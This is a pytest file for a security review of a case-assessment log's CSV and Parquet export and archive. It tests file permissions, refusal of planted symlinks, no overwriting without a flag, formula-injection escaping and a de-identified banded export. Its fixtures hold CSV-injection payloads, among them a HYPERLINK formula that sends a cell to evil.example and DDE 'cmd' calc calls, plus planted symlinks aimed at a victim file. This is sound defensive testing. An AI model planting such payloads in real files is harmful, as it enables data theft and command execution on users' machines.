"""Security review, issue 11: export and archive files are private, formula-safe, never written through a
planted name or over an existing file unasked; the banded export holds no exact age, date or identifier."""

from __future__ import annotations

import csv
import datetime as dt
import os
import re
import stat
import uuid

import pandas as pd
import pytest
from sqlalchemy import update
from support import main_in_process

from serving import AssessmentLog
from serving._archive import archive_log, decisions_path
from serving._export import export_log, override_rates_path
from serving._log_schema import Assessment, Decision

UTC = dt.UTC
JUNE = {"start": dt.date(2026, 6, 1), "end": dt.date(2026, 6, 30)}
FEATURES = ["sex", "age", "birth_region", "education", "disability", "prior_unemployment_days",
            "unemployment_insurance", "occupation_group", "county"]
# The full export's columns before the review: the banded export must leave them as they were.
FULL_COLUMNS = ["id", "created_at", "client", "model_version", "policy_version", "input_fingerprint", "person_ref",
                *FEATURES, "registered_on", "assessed_on", "days_registered", "registration_band", "probability",
                "outcome", "level", "reasons", "decision", "final_outcome", "final_level", "decision_reason",
                "caseworker", "decided_at", "n_decisions"]
BANDED_COLUMNS = ["created_month", "client", "model_version", "policy_version", "sex", "age_band", "birth_region",
                  "disability", "registration_band", "outcome", "level", "decision", "final_outcome", "final_level"]
# What a spreadsheet takes for the start of a formula (OWASP "CSV injection"), and cells that start so.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
HOSTILE = {"person_ref": '=HYPERLINK("http://evil.example/?"&A1,"x")', "sex": "=cmd|' /C calc'!A0",
           "county": "-1+1", "birth_region": "\r=1+1", "occupation_group": "\t=1+1", "education": "'quoted"}
CASEWORKER, REASON = "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1 long illness"
HIDDEN = 'long illness\r=HYPERLINK("http://evil.example","x")'  # a lone CR would start a row, and a formula


@pytest.fixture
def log(migrated_log):
    return migrated_log


@pytest.fixture
def umask():
    old = os.umask(0o022)  # the usual default: new files 0644 unless the writer says otherwise
    yield
    os.umask(old)


def _assess(log: AssessmentLog, at: dt.datetime, *, person_ref: str | None = None, days: int = 142,
            **changes) -> str:
    features = {"sex": "female", "age": 34, "birth_region": "sweden", "education": "upper_secondary",
                "disability": False, "prior_unemployment_days": 40, "unemployment_insurance": True,
                "occupation_group": "5", "county": "01", "registered_on": "2026-01-10",
                "assessed_on": "2026-06-01"} | changes
    made = log.record_assessment(client="system-a", model_version="3", policy_version="2026.1", features=features,
                                 days_registered=days, probability=0.41, outcome="suitable", level="B",
                                 person_ref=person_ref or f"p-{uuid.uuid4().hex[:6]}",
                                 reasons=[{"feature": "age", "direction": "raises", "text": "Ålder 34"}])
    with log.engine.begin() as connection:
        connection.execute(update(Assessment).where(Assessment.id == made).values(created_at=at))
    return made


def _decide(log: AssessmentLog, assessment: str, *, caseworker: str = "cw-17", reason: str = "long illness",
            at: dt.datetime | None = None) -> str:
    made, _ = log.record_decision(assessment_id=assessment, client="system-a", caseworker=caseworker,
                                  decision="override", final_outcome="suitable", final_level="C", reason=reason)
    if at is not None:
        with log.engine.begin() as connection:
            connection.execute(update(Decision).where(Decision.id == made).values(created_at=at))
    return made


def _cells(path) -> list[dict[str, str]]:
    with open(path, newline="", encoding="utf-8") as handle:
        return list(csv.DictReader(handle))


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def _assert_formula_safe(rows: list[dict[str, str]]) -> None:
    # A cell may start with = + - @ tab or CR only when it is a number (a negative number stays a number).
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(FORMULA_STARTS) or _number(cell), (column, cell)


def _mode(path) -> int:
    return stat.S_IMODE(os.lstat(path).st_mode)


@pytest.mark.parametrize("suffix", [".csv", ".parquet"])
def test_export_files_are_private_also_when_they_replace_one(log, tmp_path, umask, suffix):
    _assess(log, dt.datetime(2026, 6, 2, tzinfo=UTC))
    output = tmp_path / f"june{suffix}"
    export_log(log, **JUNE, output=output)
    assert _mode(output) == 0o600 and _mode(override_rates_path(output)) == 0o600
    for path in (output, override_rates_path(output)):
        path.chmod(0o644)
    export_log(log, **JUNE, output=output, overwrite=True)
    assert _mode(output) == 0o600 and _mode(override_rates_path(output)) == 0o600
    assert sorted(p.name for p in tmp_path.iterdir() if not p.name.startswith("log.db")) == sorted(
        [output.name, override_rates_path(output).name])  # no temporary file left


def test_a_planted_partial_symlink_does_not_receive_the_export(log, tmp_path):
    _assess(log, dt.datetime(2026, 6, 2, tzinfo=UTC))
    victim = tmp_path / "victim.txt"
    victim.write_text("precious\n")
    for name in (".june.csv.partial", ".june.override_rates.csv.partial"):  # the old, predictable names
        (tmp_path / name).symlink_to(victim)
    export_log(log, **JUNE, output=tmp_path / "june.csv")
    assert victim.read_text() == "precious\n"
    assert len(pd.read_csv(tmp_path / "june.csv")) == 1 and not (tmp_path / "june.csv").is_symlink()


def test_csv_text_cells_cannot_start_a_formula_and_numbers_stay_numbers(log, tmp_path):
    hostile = _assess(log, dt.datetime(2026, 6, 2, tzinfo=UTC), prior_unemployment_days=-3,
                      **{k: v for k, v in HOSTILE.items()})
    _decide(log, hostile, caseworker=CASEWORKER, reason=REASON)
    export_log(log, **JUNE, output=tmp_path / "june.csv")
    rows = _cells(tmp_path / "june.csv")
    _assert_formula_safe(rows)
    (row,) = rows
    for column, value in HOSTILE.items():
        assert row[column] == "'" + value, column  # one quote in front: text, shown as it was logged
    assert row["caseworker"] == "'" + CASEWORKER and row["decision_reason"] == "'" + REASON
    assert row["prior_unemployment_days"] == "-3"  # a number, not text: no quote
    rates = _cells(override_rates_path(tmp_path / "june.csv"))
    _assert_formula_safe(rates)
    assert {"grouping": "sex", "group": "'" + HOSTILE["sex"]} in [{k: r[k] for k in ("grouping", "group")}
                                                                 for r in rates]
    # A carriage return inside a text value is quoted: it cannot end the row and start a formula cell.
    other = _assess(log, dt.datetime(2026, 6, 3, tzinfo=UTC))
    _decide(log, other, reason=HIDDEN)
    export_log(log, **JUNE, output=tmp_path / "june.csv", overwrite=True)
    back = pd.read_csv(tmp_path / "june.csv", dtype=str, keep_default_na=False)  # a lone CR ends a line here
    assert len(back) == 2 and back["decision_reason"].tolist() == ["'" + REASON, HIDDEN]
    assert b"\r=HYPERLINK" in (tmp_path / "june.csv").read_bytes()  # kept, inside a quoted cell
    # Parquet is typed, not a spreadsheet's input: it keeps the values exactly as logged.
    export_log(log, **JUNE, output=tmp_path / "typed.parquet")
    back = pd.read_parquet(tmp_path / "typed.parquet").iloc[0]
    assert back["person_ref"] == HOSTILE["person_ref"] and back["caseworker"] == CASEWORKER


def test_an_archive_is_private_and_its_csv_formula_safe(log, tmp_path, umask):
    hostile = _assess(log, dt.datetime(2025, 12, 1, tzinfo=UTC), person_ref=HOSTILE["person_ref"])
    _decide(log, hostile, caseworker=CASEWORKER, reason=REASON, at=dt.datetime(2025, 12, 2, tzinfo=UTC))
    output = tmp_path / "old.csv"
    archive_log(log, before=dt.date(2026, 1, 1), output=output, today=dt.date(2026, 11, 23))
    assert _mode(output) == 0o600 and _mode(decisions_path(output)) == 0o600
    assessments, decisions = _cells(output), _cells(decisions_path(output))
    _assert_formula_safe(assessments)
    _assert_formula_safe(decisions)
    assert assessments[0]["person_ref"] == "'" + HOSTILE["person_ref"]
    assert decisions[0]["caseworker"] == "'" + CASEWORKER and decisions[0]["reason"] == "'" + REASON
    assert log.counts() == {"assessments": 0, "decisions": 0}


def test_an_archive_refuses_a_planted_dangling_symlink(log, tmp_path):
    _assess(log, dt.datetime(2025, 12, 1, tzinfo=UTC))
    (tmp_path / "old.decisions.parquet").symlink_to(tmp_path / "elsewhere.parquet")
    with pytest.raises(FileExistsError, match=r"old\.decisions\.parquet already exists"):
        archive_log(log, before=dt.date(2026, 1, 1), output=tmp_path / "old.parquet", today=dt.date(2026, 11, 23))
    assert log.counts()["assessments"] == 1 and not (tmp_path / "elsewhere.parquet").exists()


def test_the_library_refuses_an_existing_export_unless_told_to_overwrite(log, tmp_path):
    _assess(log, dt.datetime(2026, 6, 2, tzinfo=UTC))
    output = tmp_path / "june.parquet"
    for existing in (output, override_rates_path(output)):
        existing.write_text("earlier\n")
        with pytest.raises(FileExistsError, match=re.escape(f"{existing} already exists")):
            export_log(log, **JUNE, output=output)
        assert existing.read_text() == "earlier\n"
        existing.unlink()
    assert not output.exists()
    export_log(log, **JUNE, output=output)
    export_log(log, **JUNE, output=output, overwrite=True)
    assert len(pd.read_parquet(output)) == 1


@pytest.mark.parametrize("existing", ["june.csv", "june.override_rates.csv", "dangling"])
def test_the_command_refuses_an_existing_output_with_exit_2(tmp_path, monkeypatch, capsys, existing):
    log = AssessmentLog(f"sqlite:///{tmp_path / 'log.db'}")
    log.migrate()
    _assess(log, dt.datetime(2026, 6, 2, tzinfo=UTC))
    log.close()
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("AVSTAND_DATABASE_URL", f"sqlite:///{tmp_path / 'log.db'}")
    if existing == "dangling":  # a symlink planted where the export goes: refused too
        existing = "june.csv"
        (tmp_path / existing).symlink_to(tmp_path / "victim.csv")
    else:
        (tmp_path / existing).write_text("earlier\n")
    command = ["log", "export", "--from", "2026-06-01", "--to", "2026-06-30", "--output", "june.csv"]
    assert main_in_process(*command) == 2
    said = capsys.readouterr().err
    assert said == f"avstand log: {existing} already exists; pass --overwrite to replace it\n"
    assert not (tmp_path / "victim.csv").exists()
    if not (tmp_path / existing).is_symlink():
        assert (tmp_path / existing).read_text() == "earlier\n"
    assert main_in_process(*command, "--overwrite") == 0
    assert len(pd.read_csv(tmp_path / "june.csv")) == 1 and not (tmp_path / "victim.csv").exists()


def _banded_setup(log: AssessmentLog) -> dict[str, str]:
    """Five women alike, two men alike, one woman of 61 alone; one override; one assessment after UTC midnight."""
    alike = [_assess(log, dt.datetime(2026, 6, 2, 8, tzinfo=UTC), person_ref=f"alike-{i}") for i in range(5)]
    men = [_assess(log, dt.datetime(2026, 6, 3, tzinfo=UTC), sex="male", age=29, person_ref=f"man-{i}")
           for i in range(2)]
    alone = _assess(log, dt.datetime(2026, 6, 4, tzinfo=UTC), age=61, person_ref="alone", days=800)
    late = _assess(log, dt.datetime(2026, 7, 1, 1, tzinfo=UTC), person_ref="late")  # June 30 in New York
    _decide(log, alone, caseworker="cw-secret-17", reason="said so in the meeting")
    return {"alike": alike[0], "man": men[0], "alone": alone, "late": late}


@pytest.mark.parametrize("suffix", [".csv", ".parquet"])
def test_the_banded_export_holds_no_identifier_exact_date_or_age(log, tmp_path, suffix):
    from serving._export import banded_columns  # here: the module's other tests also run where it is missing

    made = _banded_setup(log)
    period = {"start": dt.date(2026, 6, 1), "end": dt.date(2026, 7, 31)}
    full = export_log(log, **period, output=tmp_path / f"full{suffix}")
    banded = export_log(log, **period, output=tmp_path / f"banded{suffix}", banded=True)
    read = (lambda p: pd.read_csv(p, dtype=str, keep_default_na=False)) if suffix == ".csv" else pd.read_parquet
    back, whole = read(tmp_path / f"banded{suffix}"), read(tmp_path / f"full{suffix}")

    assert list(back.columns) == BANDED_COLUMNS == banded_columns()
    assert list(whole.columns) == FULL_COLUMNS  # the full export is as it was
    assert len(back) == len(whole) == 9 and banded["rows"] == full["rows"] == 9
    for column in ("person_ref", "caseworker", "decision_reason", "registered_on", "assessed_on", "age",
                   "days_registered", "probability", "input_fingerprint", "reasons", "county", "id", "created_at",
                   "decided_at", "n_decisions"):
        assert column not in back.columns
    values = [str(value) for value in back.to_numpy().ravel()]
    for value in ("cw-secret-17", "said so in the meeting", "alike-0", "alone", *made.values(), "34", "61"):
        assert value not in values, value
    assert not any(re.search(r"\d{4}-\d{2}-\d{2}|Ålder", value) for value in values)  # no exact date or reason
    rows = back.assign(person_ref=whole["person_ref"]).set_index("person_ref")
    assert rows.loc["alike-0", "age_band"] == "30-54" and rows.loc["man-0", "age_band"] == "25-29"
    assert rows.loc["alone", "age_band"] == "55-70" and rows.loc["alone", "registration_band"] == "24+ months"
    assert rows.loc["alone", "decision"] == "override" and rows.loc["alone", "final_level"] == "C"
    assert rows.loc["alike-0", "created_month"] == "2026-06" and rows.loc["late", "created_month"] == "2026-07"
    # Six women of 30-54 in June (five alike plus "late" in July: another group), two men, one alone.
    assert banded["small_groups"] == {"k": 5, "rows": 9, "in_small_groups": 4, "share": 4 / 9, "unique": 2}
    assert "small_groups" not in full and full["banded"] is False
    assert (tmp_path / "banded.override_rates.csv").read_bytes() == (tmp_path / "full.override_rates.csv").read_bytes()


def test_the_command_writes_the_banded_export_and_prints_the_small_group_share(tmp_path, monkeypatch, capsys):
    log = AssessmentLog(f"sqlite:///{tmp_path / 'log.db'}")
    log.migrate()
    _banded_setup(log)
    log.close()
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("AVSTAND_DATABASE_URL", f"sqlite:///{tmp_path / 'log.db'}")
    assert main_in_process("log", "export", "--from", "2026-06-01", "--to", "2026-06-30", "--output", "june.csv",
                           "--banded") == 0
    said = capsys.readouterr().out
    assert "small groups   3 of 8 rows (37.5%) alike with fewer than 4 others; 1 unique" in said
    assert list(pd.read_csv(tmp_path / "june.csv").columns) == BANDED_COLUMNS
